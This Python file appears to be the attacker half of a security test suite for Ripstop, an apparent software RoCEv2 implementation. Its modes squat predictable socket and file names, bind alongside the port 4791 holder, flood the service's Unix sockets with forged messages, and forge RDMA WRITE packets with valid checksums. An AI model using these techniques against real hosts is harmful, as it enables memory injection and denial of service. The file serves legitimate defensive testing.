"""Attackers of security.sh. Each runs as a user of its own and says on one line what it got.

  squat FOLDER UID SIZE      take every name of Ripstop's that can be guessed, and sleep
  bind                       try to have port 4791 beside its holder; prints what was allowed
  names                      send to each Unix socket of Ripstop's what such sockets once believed
  write SIP SPORT DIP QPN RKEY VA PSN [COUNT]
                             WRITEs of one byte with the right ICRC, PSN - COUNT / 2 and on, from a socket
"""
import array, errno, fcntl, os, select, socket, struct, sys, time, zlib

PORT = 4791


def packet(v6, sip, sport, dip, qpn, rkey, va, psn):
    payload = b"\xee\x00\x00\x00"
    bth = struct.pack(">BBHII", 0x0A, 0x40, 0xFFFF, qpn, 0x80000000 | psn)  # RC WRITE Only
    body = bth + struct.pack(">QII", va, rkey, len(payload)) + payload
    udp = struct.pack(">HHHH", sport, PORT, 8 + len(body) + 4, 0xFFFF)
    if v6:
        ip = struct.pack(">IHBB", 0x6FFFFFFF, len(udp) + len(body) + 4, 17, 0xFF) + sip + dip
    else:
        ip = struct.pack(">BBHHHBBH", 0x45, 0xFF, 20 + len(udp) + len(body) + 4, 0, 0x4000, 0xFF, 17,
                         0xFFFF) + sip + dip
    masked = body[:4] + b"\xff" + body[5:]
    return body + struct.pack("<I", zlib.crc32(b"\xff" * 8 + ip + udp + masked))


def write(sip, sport, dip, qpn, rkey, va, psn, count=1):
    family = socket.AF_INET6 if ":" in dip else socket.AF_INET
    s = socket.socket(family, socket.SOCK_DGRAM)
    if sport == PORT:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    if family == socket.AF_INET6:
        s.setsockopt(socket.IPPROTO_IPV6, 78, 1)  # IPV6_FREEBIND: any user may
    else:
        s.setsockopt(socket.IPPROTO_IP, 10, 2)  # IP_MTU_DISCOVER, DO: identification 0
    s.bind((sip, sport))
    sport = s.getsockname()[1]
    a, b = (socket.inet_pton(family, x) for x in (sip, dip))
    for i in range(count):
        p = packet(family == socket.AF_INET6, a, sport, b, qpn, rkey, va,
                   (psn + i - count // 2) & 0xFFFFFF)
        s.sendto(p, (dip, PORT))
    print("sent", count)


def try_bind(family, address, options):
    s = socket.socket(family, socket.SOCK_DGRAM)
    try:
        for level, name, value in options:
            s.setsockopt(level, name, value)
        s.bind((address, PORT))
        return True
    except OSError as e:
        assert e.errno in (errno.EADDRINUSE, errno.EPERM, errno.EADDRNOTAVAIL), e
        return False


def bind():
    port = (socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    address = (socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    device = (socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"lo")
    free4, free6 = (socket.IPPROTO_IP, 15, 1), (socket.IPPROTO_IPV6, 78, 1)
    only6 = (socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
    got = []
    for options in ([], [port], [address], [port, address], [device], [port, device],
                    [port, address, device]):
        for where in ("127.0.0.1", "127.0.0.2", "127.255.255.255", "0.0.0.0", "192.0.2.1"):
            if try_bind(socket.AF_INET, where, options + [free4]):
                got.append((where, options))
        for where in ("::1", "::", "fd00::99"):
            if try_bind(socket.AF_INET6, where, options + [free6, only6]):
                got.append((where, options))
    print("bound", got)


def names():
    """A question for counters, packets handed over, rings, time and again: a socket whose owner is
    stopped is full of them at last, unless the kernel drops them."""
    mine = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    mine.bind("\0attacker%d" % os.getpid())
    mine.setblocking(False)
    ring = os.memfd_create("ring")
    ping = [b"RSREPORT", b"\0" * 16 + b"RSRP" + bytes(32), os.urandom(16) + b"RSRP" + bytes(32),
            bytes(40) + b"\x0a" * 64, bytes(56) + b"\x0a" * 64]
    rings = [b"RSRINGS\0" + struct.pack("<IIII", 1, 1, 1, 0)]
    rings.append(bytes(16) + rings[0])
    seen = full = 0
    for line in open("/proc/net/unix"):
        name = line.split()[-1]
        if not name.startswith("@ripstop-"):
            continue
        seen += 1
        for data in (ping + rings) * 300:
            rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [ring]))]
            try:
                mine.sendmsg([data], rights if data in rings else [], socket.MSG_DONTWAIT,
                             "\0" + name[1:])
            except OSError as e:
                assert e.errno in (errno.EAGAIN, errno.ECONNREFUSED, errno.ETOOMANYREFS), e
                full += e.errno != errno.ECONNREFUSED
    answers = len(mine.recv(100000)) if select.select([mine], [], [], 0.3)[0] else 0
    print("seen", seen, "full", full, "answers", answers)


def squat(folder, uid, size):
    held = []
    for slot in range(256):  # the names of Ripstop 0.1's first versions
        s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        s.bind("\0ripstop-%s-%d" % (uid, slot))
        held.append(s)
    netns = os.stat("/proc/self/ns/net").st_ino
    for end in ["", ".1", ".2", ".3"] + ["-%016x" % i for i in range(100)]:
        path = "%s/ripstop-%s-%d%s" % (folder, uid, netns, end)
        f = open(path, "w+b")
        os.fchmod(f.fileno(), 0o666)
        f.write(struct.pack("<II", 0x52697073, 6 if end.startswith("-") else 4))
        f.truncate(size)
        f.flush()
        fcntl.fcntl(f, 37, struct.pack("hhqqi4x", fcntl.F_WRLCK, 0, 0, 256, 0))  # F_OFD_SETLK
        held.append(f)
    print("squatting", flush=True)
    time.sleep(120)


if sys.argv[1] == "write":
    a = sys.argv[2:]
    write(a[0], int(a[1]), a[2], *(int(x) for x in a[3:]))
else:
    {"bind": bind, "names": names, "squat": lambda: squat(sys.argv[2], sys.argv[3], int(sys.argv[4]))}[sys.argv[1]]()
